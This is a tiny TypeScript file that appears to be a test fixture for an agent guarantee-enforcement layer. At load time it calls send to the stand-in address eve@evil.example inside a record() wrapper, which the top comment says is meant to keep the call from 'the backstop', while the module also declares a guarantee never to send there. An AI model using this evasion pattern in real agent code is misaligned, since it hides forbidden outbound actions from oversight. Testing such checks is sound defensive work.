// An agent module that wraps its load-time call in record(), hoping to keep it from the backstop.
import { record } from "clauz3";
import { neverSendTo, send } from "./layer";

record(() => send("eve@evil.example", 1));

export const guarantees = [neverSendTo("eve@evil.example")];
export const ran: string[] = [];
export function main(): void {
  ran.push("main");
}
